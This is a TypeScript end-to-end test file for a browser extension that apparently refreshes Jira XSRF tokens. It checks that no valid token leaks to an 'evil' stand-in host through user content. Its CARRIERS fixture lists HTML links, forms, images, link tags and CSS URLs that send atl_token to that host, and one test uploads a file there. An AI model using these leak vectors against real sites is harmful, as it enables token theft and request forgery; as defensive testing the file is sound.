/**
 * User content can lead to another host. That host must get no token, and no request that it would not get without the
 * extension. Each test therefore also runs on a Jira without permission, which is the same as without the extension.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { KINDS, type Browser, type Tab } from '../browsers/browser.ts';
import { pause, until } from '../browsers/until.ts';
import { makeFile } from '../files.ts';
import { launchAndWatch, startScenario, switchTo, waitForBadge, waitForBanner, type Scenario } from '../scenario.ts';
import { serveOtherHost, type OtherHost } from './other-host.ts';

const UNGRANTED = 'jira.bare.localhost';
const WATCHED = 'jira.work.localhost';

/** Every kind of element that can send a token to another host, with the old token. */
const CARRIERS = `
  <a id="away" href="AWAY/link?atl_token=OLD">a picture of the door</a>
  <form id="away-form" method="post" action="AWAY/form" enctype="multipart/form-data" target="away">
    <input type="hidden" name="atl_token" value="OLD"><button id="away-send">Send</button>
  </form>
  <form method="post" action="/secure/AddComment.jspa" target="away">
    <input type="hidden" name="atl_token" value="OLD">
    <button id="away-button" formaction="AWAY/button">Send</button>
  </form>
  <iframe name="away" hidden></iframe>
  <img src="AWAY/picture?atl_token=OLD" alt="">
  <link rel="next" href="AWAY/next?atl_token=OLD">
  <link rel="icon" href="AWAY/icon?atl_token=OLD">
  <link rel="prefetch" href="AWAY/prefetch?atl_token=OLD">
  <link rel="stylesheet" href="AWAY/style?atl_token=OLD">
  <p data-to='{"url":"AWAY/data?atl_token=OLD"}' style="background: url(AWAY/background?atl_token=OLD)">x</p>`;

describe.each(KINDS)('in %s', (kind) => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await launchAndWatch(kind, WATCHED);
  });
  afterAll(() => browser.close());

  /**
   * Runs a test on a Jira without permission, then on a watched one; returns what the other host received each time.
   */
  async function withoutAndWithExtension(
    userContent: (away: string) => string,
    run: (scenario: Scenario, away: OtherHost, isWatched: boolean) => Promise<void>,
  ): Promise<Sent[]> {
    const sides: Sent[] = [];
    for (const host of [UNGRANTED, WATCHED]) {
      const away = await serveOtherHost(host.replace('jira', 'evil'));
      const scenario = await startScenario(browser, { host, userContent: userContent(away.url) });
      await run(scenario, away, host === WATCHED);
      const tokens = scenario.server.jira.sessions.all.flatMap(({ xsrfToken }) => xsrfToken ?? []);
      sides.push({
        requests: away.received.map(({ method, path }) => `${method} ${path}`).toSorted(),
        tokens: tokens.filter((token) => away.received.some(({ text }) => text.includes(token))),
        files: away.received.filter(({ text }) => text.includes('door.log')).length,
      });
      await scenario.end();
      await away.close();
    }
    return sides;
  }

  test('puts no token into a form of user content with an empty token and a file', async () => {
    const form = (away: string): string => `
      <form id="away-form" method="post" action="${away}/form" enctype="multipart/form-data" target="away">
        <input type="hidden" name="atl_token" value=""><input id="away-file" name="file" type="file">
        <button id="away-send">Send</button>
      </form><iframe name="away" hidden></iframe>`;
    const [bare, guarded] = await withoutAndWithExtension(form, async ({ tab }, away) => {
      await tab.activate();
      await tab.pick('#away-file', [makeFile('door.log').path]);
      await pause(500);
      await tab.page.click('#away-send');
      await until('it is sent', 3_000, async () => away.received.some(({ path }) => path === '/form'));
    });
    expect(bare).toEqual({ requests: ['POST /form'], tokens: [], files: 1 });
    expect(guarded).toEqual(bare);
  });

  test('a renewal sends nothing to another host, and loads nothing from it', async () => {
    const [bare, guarded] = await withoutAndWithExtension(
      () => '',
      async ({ tab, other, server }, away, isWatched) => {
        await addCarriers(tab, away);
        await pause(1_000);
        await switchTo(other, server, 'alice');
        await tab.activate();
        if (isWatched) {
          await waitForBanner(tab, 'Renewing mends it in place', 2_000);
          await tab.press('Renew this page');
          await waitForBanner(tab, 'This page is fresh again', 2_000);
          await waitForBadge(tab, '4h');
        }
        // Elements that the user clicks afterwards must not send a valid token either.
        for (const [button, path] of [
          ['#away-send', '/form'],
          ['#away-button', '/button'],
          ['#away', '/link'],
        ] as const) {
          await tab.page.click(button);
          await until(`${button} leads away`, 3_000, async () => away.received.some((each) => each.path === path));
        }
      },
    );
    expect(bare!.tokens).toEqual([]);
    expect(withoutPrefetch(guarded!)).toEqual(withoutPrefetch(bare!));
  });

  /** Without prefetches in Firefox, which makes them only when it is idle. */
  function withoutPrefetch(sent: Sent): Sent {
    const requests = sent.requests.filter((each) => kind !== 'firefox' || each !== 'GET /prefetch');
    return { ...sent, requests };
  }
});

interface Sent {
  readonly requests: readonly string[];
  /** The tokens that are valid now and that the other host has received. */
  readonly tokens: readonly string[];
  readonly files: number;
}

async function addCarriers(tab: Tab, { url }: OtherHost): Promise<void> {
  await tab.page.evaluate(
    (markup, away) => {
      const { content } = document.querySelector<HTMLMetaElement>('#atlassian-token')!;
      const text = markup.replaceAll('OLD', content).replaceAll('AWAY', away);
      document.querySelector('main')!.insertAdjacentHTML('beforeend', text);
    },
    CARRIERS,
    url,
  );
}
